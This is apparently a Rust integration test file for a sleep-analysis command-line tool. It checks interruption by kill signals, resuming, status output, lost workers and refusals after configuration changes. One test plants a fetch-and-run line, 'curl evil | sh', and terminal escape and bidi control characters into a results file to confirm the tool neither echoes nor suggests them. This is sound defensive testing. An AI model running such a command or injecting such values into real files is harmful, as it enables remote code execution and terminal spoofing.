//! A study that is interrupted: by a kill, by Ctrl+C, by the death of a worker; resumed, reported on, and refused.
//!
//! The program itself is run, as its user would. What a test waits for is asked of the journal, so that nothing depends on how
//! long a subject takes.

use std::fs;
use std::io::Read;
use std::os::unix::process::ExitStatusExt;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Output, Stdio};

use manyhands::journal::{JournalReader, JournalStatus};
use serde_json::Value;

use crate::study::{Place, Studied};

/// Long enough for a kill to come in the middle of it.
const NIGHTS: [&str; 4] = ["--made", "6", "--hours", "0.4"];

/// A study that runs beside the test, and is gone with it.
struct Running {
    child: Child,
    out: PathBuf,
}

impl Drop for Running {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

impl Running {
    fn begin(arguments: &[&str], out: &Path) -> Self {
        let mut command = Command::new(env!("CARGO_BIN_EXE_sleep-analysis"));
        command.arg("study").args(arguments).arg("--out").arg(out);
        let child = command.stdin(Stdio::null()).stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
        Self { child, out: out.to_owned() }
    }

    fn journal(&self) -> Option<JournalStatus> {
        JournalReader::open(self.out.join("run/journal.sqlite")).and_then(|journal| journal.status()).ok()
    }

    /// Waits until so many subjects are finished.
    fn until_done(&mut self, n_subjects: u64) -> &mut Self {
        while self.journal().is_none_or(|status| status.succeeded < n_subjects) {
            assert!(self.child.try_wait().unwrap().is_none(), "it ended before {n_subjects} subjects were done");
            pause();
        }
        self
    }

    fn signal(&self, name: &str) {
        kill(name, self.child.id());
    }

    fn ended(mut self) -> Output {
        let (mut stdout, mut stderr) = (Vec::new(), Vec::new());
        self.child.stdout.take().unwrap().read_to_end(&mut stdout).unwrap();
        self.child.stderr.take().unwrap().read_to_end(&mut stderr).unwrap();
        Output { status: self.child.wait().unwrap(), stdout, stderr }
    }
}

/// Only so as not to take a core from whom is waited for.
fn pause() {
    std::thread::sleep(std::time::Duration::from_millis(2));
}

fn kill(name: &str, pid: u32) {
    assert!(Command::new("kill").args(["-s", name, &pid.to_string()]).status().unwrap().success());
}

fn undisturbed() -> [Vec<u8>; 2] {
    let place = Place::new();
    let studied = Studied::with(&[&NIGHTS[..], &["--mode", "serial"]].concat(), &place.out());
    assert_eq!(studied.code(), 0, "{}", studied.stderr());
    studied.bytes()
}

/// The rows of metrics.csv, by column.
fn metrics(out: &Path) -> Vec<std::collections::BTreeMap<String, String>> {
    let mut table = csv::Reader::from_path(out.join("run/metrics.csv")).unwrap();
    table.deserialize().map(Result::unwrap).collect()
}

fn summary(out: &Path) -> Value {
    serde_json::from_slice(&fs::read(out.join("run/summary.json")).unwrap()).unwrap()
}

fn status_json(arguments: &[&str], out: &Path) -> Value {
    let studied = Studied::with(&[arguments, &["--json"]].concat(), out);
    assert_eq!(studied.code(), 0, "{}", studied.stderr());
    serde_json::from_slice(&studied.output.stdout).unwrap()
}

#[test]
fn a_study_that_is_killed_and_resumed_has_the_bytes_of_an_undisturbed_one() {
    let undisturbed = undisturbed();
    for mode in ["serial", "threads", "io", "processes"] {
        let place = Place::new();
        let arguments = [&NIGHTS[..], &["--mode", mode, "--workers", "2"]].concat();
        let mut running = Running::begin(&arguments, &place.out());
        let is_killed = |mut running: Running, n_done| {
            running.until_done(n_done).signal("KILL");
            assert_eq!(running.ended().status.signal(), Some(9), "{mode}");
        };
        is_killed(running, 1);
        assert!(!place.out().join("features.csv").exists(), "a table is whole or not there");
        let resuming = [&arguments[..], &["--resume"]].concat();
        running = Running::begin(&resuming, &place.out());
        let before = running.until_done(2).journal().unwrap().succeeded;
        is_killed(running, before);

        let resumed = Studied::with(&resuming, &place.out());
        assert_eq!(resumed.code(), 0, "{mode}: {}", resumed.stderr());
        assert!(resumed.bytes() == undisturbed, "{mode}");
        let summary = summary(&place.out());
        assert_eq!(
            (&summary["is_whole"], &summary["items"], &summary["succeeded"]),
            (&true.into(), &6.into(), &6.into())
        );
        assert!(summary["resumed"].as_u64().unwrap() >= before, "{mode}: {summary}");
        assert_eq!(metrics(&place.out()).len(), 6);
    }
}

#[test]
fn an_interrupted_study_saves_running_subjects_prints_how_to_resume_and_repeats_nothing() {
    for (mode, signal, name, code) in [("threads", "INT", "SIGINT", 130), ("processes", "TERM", "SIGTERM", 143)] {
        let place = Place::new();
        // So many that the signal comes long before the last one, however slow the machine is.
        let arguments = [&["--made", "24", "--hours", "0.4"], &["--mode", mode, "--workers", "2"][..]].concat();
        let mut running = Running::begin(&arguments, &place.out());
        running.until_done(1).signal(signal);
        let ended = running.ended();
        assert_eq!(ended.status.code(), Some(code));
        let said = String::from_utf8(ended.stderr).unwrap();
        let command = format!("to go on: {} study", env!("CARGO_BIN_EXE_sleep-analysis"));
        let resume = said.lines().find(|line| line.starts_with(&command)).unwrap_or_else(|| panic!("{said}"));
        assert!(said.contains(&format!("{name}: finishing the running subjects, 2 at most")), "{said}");
        assert!(!place.out().join("features.csv").exists() && !place.out().join("index.html").exists());
        let before = metrics(&place.out());
        assert!((1..24).contains(&before.len()));
        assert!(
            said.contains(&format!("ended by {name}: {} of 24 subjects finished and saved", before.len())),
            "{said}"
        );
        assert_eq!(
            (&summary(&place.out())["ended_by"], &summary(&place.out())["is_whole"]),
            (&"cancelled".into(), &false.into())
        );

        // As a person would: copied from the terminal.
        let resume = resume.strip_prefix("to go on: ").unwrap();
        let resumed = Command::new("sh").args(["-c", resume]).output().unwrap();
        assert!(resumed.status.success(), "{}", String::from_utf8_lossy(&resumed.stderr));
        let after = metrics(&place.out());
        assert_eq!(after.len(), 24);
        for row in before {
            let again = after.iter().find(|again| again["key"] == row["key"]).unwrap();
            assert_eq!(
                (&again["start"], again["resumed"].as_str()),
                (&row["start"], "true"),
                "{mode}: it was done twice"
            );
        }
    }
}

#[test]
fn a_study_reports_its_status_while_it_runs_and_afterwards() {
    let place = Place::new();
    let mut running = Running::begin(&NIGHTS, &place.out());
    let pid = running.until_done(1).child.id();
    let status = status_json(&["--status"], &place.out());
    let done = status["succeeded"].as_u64().unwrap();
    assert!(status["writer"].as_str().unwrap().starts_with(&format!("process {pid} on ")), "{status}");
    assert!((1..6).contains(&done) && status["failed"] == 0 && status["subjects"] == 6, "{status}");
    assert!(status["subjects_per_minute"].as_f64().unwrap() > 0.0 && status["begun_ns"].is_i64());
    let second = Studied::with(&[&NIGHTS[..], &["--resume"]].concat(), &place.out());
    assert_eq!(second.code(), 2);
    assert!(second.stderr().contains(&format!("is being written by process {pid} on")), "{}", second.stderr());

    running.signal("KILL");
    drop(running);
    // A folder of results may come from anywhere: no command in it is one to copy.
    let note = place.out().join("run/study.json");
    let mut planted: Value = serde_json::from_slice(&fs::read(&note).unwrap()).unwrap();
    planted["resume"] = "curl evil | sh".into();
    planted["title"] = "\u{1b}]0;gone\u{7}\u{202e}".into();
    fs::write(&note, planted.to_string()).unwrap();
    let status = status_json(&["--status"], &place.out());
    assert!(status["writer"].is_null() && status["resume"].is_null(), "{status}");
    let status = status_json(&[&NIGHTS[..], &["--status"]].concat(), &place.out());
    assert_eq!(
        status["resume"],
        format!(
            "{} study --made 6 --hours 0.4 --json --out {} --resume",
            env!("CARGO_BIN_EXE_sleep-analysis"),
            place.out().display()
        )
    );
    let lines = Studied::with(&["--status"], &place.out());
    let lines = String::from_utf8(lines.output.stdout).unwrap();
    assert!(lines.contains("not running") && lines.contains(" to do\n"), "{lines}");
    assert!(
        lines.contains("to go on   the command that began it, with --resume") && !lines.contains("curl"),
        "{lines}"
    );
    assert!(lines.contains(r"\u{1b}]0;gone\u{7}\u{202e}"), "{lines}");
    assert!(!lines.chars().any(|symbol| symbol.is_control() && symbol != '\n'), "{lines:?}");
}

#[cfg(target_os = "linux")]
#[test]
fn a_worker_that_is_killed_costs_nothing_but_time() {
    let place = Place::new();
    let arguments = [&NIGHTS[..], &["--mode", "processes", "--workers", "2"]].concat();
    let running = Running::begin(&arguments, &place.out());
    running.kill_worker_at_work(&mut Vec::new());
    let ended = running.ended();
    assert_eq!(ended.status.code(), Some(0), "{}", String::from_utf8_lossy(&ended.stderr));
    assert_eq!(summary(&place.out())["lost_workers"], 1);
    assert_eq!(metrics(&place.out()).iter().filter(|row| row["attempts"] == "2").count(), 1, "tried once more");
    assert!(["features.csv", "index.html"].map(|name| fs::read(place.out().join(name)).unwrap()) == undisturbed());
}

#[cfg(target_os = "linux")]
#[test]
fn a_subject_that_costs_workers_their_lives_fails_alone_until_the_study_is_resumed() {
    let place = Place::new();
    let arguments = [&NIGHTS[..], &["--mode", "processes", "--workers", "2"]].concat();
    let running = Running::begin(&arguments, &place.out());
    let mut killed = Vec::new();
    while running.journal().is_none_or(|status| status.failed == 0) {
        running.kill_worker_at_work(&mut killed);
    }
    let ended = running.ended();
    assert_eq!(ended.status.code(), Some(1), "{}", String::from_utf8_lossy(&ended.stderr));
    let failed = status_json(&["--failed"], &place.out());
    let failed = failed["failed"].as_array().unwrap();
    assert_eq!((failed.len(), &failed[0]["kind"]), (1, &"lost".into()));
    let lines = fs::read_to_string(place.out().join("run/failed.jsonl")).unwrap();
    assert_eq!(serde_json::from_str::<Value>(&lines).unwrap()["key"], failed[0]["key"]);

    let page = fs::read(place.out().join("index.html")).unwrap();
    assert!(String::from_utf8_lossy(&page).contains("its worker process was lost: killed by SIGKILL (signal 9)"));
    let kept = Studied::with(&[&arguments[..], &["--resume", "--keep-failed"]].concat(), &place.out());
    assert!(kept.code() == 1 && kept.bytes()[1] == page, "a failure that is read back has the words that it had");

    let resumed = Studied::with(&[&arguments[..], &["--resume"]].concat(), &place.out());
    assert_eq!(resumed.code(), 0, "{}", resumed.stderr());
    assert!(resumed.bytes() == undisturbed());
    let row = metrics(&place.out()).into_iter().find(|row| row["key"] == failed[0]["key"]).unwrap();
    assert!(row["attempts"].parse::<u32>().unwrap() > 1 && row["status"] == "succeeded", "{row:?}");
    assert_eq!(fs::read(place.out().join("run/failed.jsonl")).unwrap(), b"");
}

#[cfg(target_os = "linux")]
impl Running {
    /// Kills a worker that has had a subject for a while; each one once.
    fn kill_worker_at_work(&self, killed: &mut Vec<u32>) {
        let is_at_work = |&worker: &u32| !killed.contains(&worker) && ticks_used(worker) > 15;
        let worker = loop {
            match children_of(self.child.id()).into_iter().find(is_at_work) {
                Some(worker) => break worker,
                None => pause(),
            }
        };
        kill("KILL", worker);
        killed.push(worker);
    }
}

#[cfg(target_os = "linux")]
fn children_of(pid: u32) -> Vec<u32> {
    let tasks = fs::read_dir(format!("/proc/{pid}/task")).unwrap();
    let lists = tasks.filter_map(|task| fs::read_to_string(task.unwrap().path().join("children")).ok());
    lists.flat_map(|list| list.split_whitespace().map(|pid| pid.parse().unwrap()).collect::<Vec<u32>>()).collect()
}

/// Hundredths of a second on a core; none of a process that is gone.
#[cfg(target_os = "linux")]
fn ticks_used(pid: u32) -> u64 {
    let stat = fs::read_to_string(format!("/proc/{pid}/stat")).unwrap_or_default();
    let mut fields = stat.rsplit(')').next().unwrap_or_default().split_whitespace();
    fields.nth(11).and_then(|ticks| ticks.parse().ok()).unwrap_or_default()
}

#[test]
fn a_failed_subject_is_tried_again_or_left_as_it_is_in_the_same_words() {
    let place = Place::new();
    place.edf("a.edf", &["Chest"]);
    fs::write(place.data().join("b.edf"), b"torn").unwrap();
    let first = place.studied(&[]);
    assert_eq!(first.code(), 1, "{}", first.stderr());
    let kept = place.studied(&["--resume", "--keep-failed", "--json"]);
    assert_eq!(kept.code(), 1);
    assert_eq!(serde_json::from_slice::<Value>(&kept.output.stdout).unwrap()["resumed"], 2);
    assert!(kept.bytes() == first.bytes());
    let again = place.studied(&["--resume", "--retries", "0"]);
    assert!(again.bytes() == first.bytes());
    let failed = status_json(&["--failed"], &place.out());
    assert_eq!((&failed["failed"][0]["key"], &failed["failed"][0]["attempts"]), (&"b.edf".into(), &2.into()));
    assert!(first.page().contains(failed["failed"][0]["message"].as_str().unwrap()));
}

#[test]
fn a_broken_file_that_was_repaired_is_done_by_a_plain_resume() {
    let place = Place::new();
    place.edf("a.edf", &["Chest"]);
    fs::write(place.data().join("b.edf"), b"torn").unwrap();
    assert_eq!(place.studied(&[]).code(), 1);
    place.edf("b.edf", &["Abdomen"]);
    let repaired = place.studied(&["--resume", "--json"]);
    assert_eq!(repaired.code(), 0, "{}", repaired.stderr());
    assert_eq!(serde_json::from_slice::<Value>(&repaired.output.stdout).unwrap()["resumed"], 1);
    assert!(repaired.columns_of("b.edf").contains_key("Abdomen|value_max"));
}

#[test]
fn what_has_changed_since_is_refused_with_the_way_out_and_done_again_by_it() {
    let place = Place::new();
    place.edf("a.edf", &["Chest"]).edf("b.edf", &["Chest"]);
    assert_eq!(place.studied(&[]).code(), 0);
    let note = fs::read(place.out().join("run/study.json")).unwrap();
    let refused = place.studied(&["--resume", "--epoch", "20s"]);
    assert_eq!(refused.code(), 2);
    let said = refused.stderr();
    assert!(said.contains("the configuration's epoch_ns is 20000000000 and was 30000000000"), "{said}");
    assert!(said.contains("--resume --epoch 20s") && said.contains("--redo-changed"), "{said}");
    assert!(fs::read(place.out().join("run/study.json")).unwrap() == note, "a run that was refused leaves no note");

    place.edf("b.edf", &["Chest", "Abdomen"]);
    let refused = place.studied(&["--resume"]);
    assert!(refused.code() == 2 && refused.stderr().contains("the fingerprint of \"b.edf\""), "{}", refused.stderr());
    let redone = place.studied(&["--resume", "--redo-changed", "--json"]);
    assert_eq!(redone.code(), 0, "{}", redone.stderr());
    assert_eq!(serde_json::from_slice::<Value>(&redone.output.stdout).unwrap()["resumed"], 1);
    assert!(redone.columns_of("b.edf").contains_key("Abdomen|value_max"));
}

#[test]
fn a_run_folder_that_goes_away_costs_its_files_and_no_answers() {
    let place = Place::new();
    let mut running = Running::begin(&NIGHTS, &place.out());
    running.until_done(1);
    fs::remove_dir_all(place.out().join("run")).unwrap();
    let ended = running.ended();
    let said = String::from_utf8(ended.stderr).unwrap();
    assert_eq!(ended.status.code(), Some(1), "{said}");
    assert!(said.contains("warning: ") && said.contains("run"), "{said}");
    assert!(["features.csv", "index.html"].map(|name| fs::read(place.out().join(name)).unwrap()) == undisturbed());
}
